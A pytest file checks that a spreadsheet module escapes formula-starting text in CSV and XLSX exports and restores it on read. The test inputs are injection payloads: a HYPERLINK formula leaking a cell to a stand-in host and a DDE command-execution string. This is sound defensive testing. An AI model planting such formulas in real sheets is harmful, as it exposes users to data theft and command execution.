"""picforge.sheets: untrusted text never becomes a formula, and every reader gives the original text back."""
import csv
import io
import zipfile

import openpyxl
import pytest

from picforge import sheets
from pipeline.stages.select import CSV_COLUMNS, candidates_csv
from tests.triplets import triplet, triplet_side

ANSWER = '=HYPERLINK("http://x?leak="&B2,"a")'  # an annotator's answer
TITLES = ("=cmd|' /C calc'!A0", "@SUM(A1:A9)")  # Wikipedia titles
MODEL_OUTPUT = "+1 and -x\tmore"  # a language model's context
PLAIN = ("-0.25", "'quoted'", "''=2", "ordinary text")
CELLS = (ANSWER, *TITLES, MODEL_OUTPUT, "\rreturn", *PLAIN)
COLUMNS = ["item_id", "text"]
ROWS = [{"item_id": f"i{n}", "text": text} for n, text in enumerate(CELLS)]


def test_neutralise_prefixes_formula_starts_and_restore_undoes_it():
    assert [sheets.neutralise(t) for t in CELLS] == [
        "'" + ANSWER, "'" + TITLES[0], "'" + TITLES[1], "'" + MODEL_OUTPUT, "'\rreturn",
        "-0.25", "'quoted'", "'''=2", "ordinary text"]
    assert [sheets.restore(sheets.neutralise(t)) for t in CELLS] == list(CELLS)


def test_csv_cells_are_neutralised_and_read_back_as_written(tmp_path):
    csv_path, _ = sheets.write_sheet(str(tmp_path / "sheet"), COLUMNS, ROWS)
    raw = list(csv.reader(io.StringIO(open(csv_path, encoding="utf-8-sig", newline="").read())))
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in raw for cell in row)
    assert [row for _, row in sheets.read_sheet(csv_path, COLUMNS).rows] == [
        {"item_id": r["item_id"], "text": " ".join(r["text"].split())} for r in ROWS]  # whitespace collapsed


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    _, xlsx_path = sheets.write_sheet(str(tmp_path / "sheet"), COLUMNS, ROWS, yes_no=["text"])
    sheet_xml = zipfile.ZipFile(xlsx_path).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and 'type="list"' in sheet_xml
    book = openpyxl.load_workbook(xlsx_path)
    assert [(c.value, c.data_type) for (c,) in book.active.iter_rows(min_row=2, min_col=2)] == [
        (text.replace("\r", "\n"), "s") for text in CELLS]  # XML keeps no bare CR
    assert [row["text"] for _, row in sheets.read_sheet(xlsx_path, COLUMNS).rows] == [
        " ".join(text.split()) for text in CELLS]


def test_bold_spans_and_highlights_stay_text(tmp_path):
    rows = [{"item_id": "i1", "text": ANSWER, "_bold": [[0, 10]]}, {"item_id": "i2", "text": "a **=b** c"}]
    _, xlsx_path = sheets.write_sheet(str(tmp_path / "sheet"), COLUMNS, rows, bold="text", highlight=True)
    sheet_xml = zipfile.ZipFile(xlsx_path).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<b" in sheet_xml
    assert [row["text"] for _, row in sheets.read_sheet(xlsx_path, COLUMNS).rows] == [ANSWER, "a =b c"]


def test_mining_candidates_csv_neutralises_wikipedia_text(tmp_path):
    sentences = ["The harbour was busy.", "A massive figure stood there.", "It fell.", "Ships left.", "Done."]
    record = triplet("t1", "massive figure", triplet_side(1, sentences, "massive figure", title=TITLES[0]),
                     triplet_side(2, sentences, "massive figure", title=TITLES[1]), semantic_score=-0.1)
    path = tmp_path / "annotation_candidates.csv"
    path.write_text(candidates_csv([record]), encoding="utf-8")
    (row,) = csv.DictReader(path.open(encoding="utf-8", newline=""))
    assert row["page1_title"] == "'" + TITLES[0] and row["page2_title"] == "'" + TITLES[1]
    assert row["semantic_score"] == "-0.1"  # a number is not a formula
    ((_, read),) = sheets.read_sheet(str(path), list(CSV_COLUMNS)).rows
    assert (read["page1_title"], read["page2_title"]) == TITLES


def test_a_missing_sheet_is_an_input_error(tmp_path):
    with pytest.raises(sheets.InputError, match="no such file"):
        sheets.read_sheet(str(tmp_path / "nope.csv"), COLUMNS)


def test_oversized_sheets_are_refused_at_once_naming_the_file(tmp_path):
    import openpyxl

    from picforge.errors import InputError
    from picforge.sheets import MAX_SHEET_ROWS, read_sheet

    huge_cell = tmp_path / "cell.csv"
    huge_cell.write_text("triplet_id,Q1\n1," + "x" * 10_000_000 + "\n")
    with pytest.raises(InputError, match=r"cell\.csv: line \d+: not readable as CSV"):
        read_sheet(str(huge_cell), ["triplet_id"])
    long_cell = tmp_path / "long.csv"
    long_cell.write_text("triplet_id,Q1\n1," + "y" * 40_000 + "\n")
    with pytest.raises(InputError, match=r"long\.csv: row 2, column 2: a cell of 40,000 characters"):
        read_sheet(str(long_cell), ["triplet_id"])
    many = tmp_path / "many.csv"
    many.write_text("triplet_id,Q1\n" + "1,a\n" * (MAX_SHEET_ROWS + 5))
    with pytest.raises(InputError, match=r"many\.csv: more than 100,000 rows"):
        read_sheet(str(many), ["triplet_id"])
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("annotations")
    for n in range(MAX_SHEET_ROWS + 10):
        sheet.append([n, "a"])
    book.save(tmp_path / "many.xlsx")
    with pytest.raises(InputError, match=r"many\.xlsx: .*rows, more than any sheet picforge exports"):
        read_sheet(str(tmp_path / "many.xlsx"), ["triplet_id"])
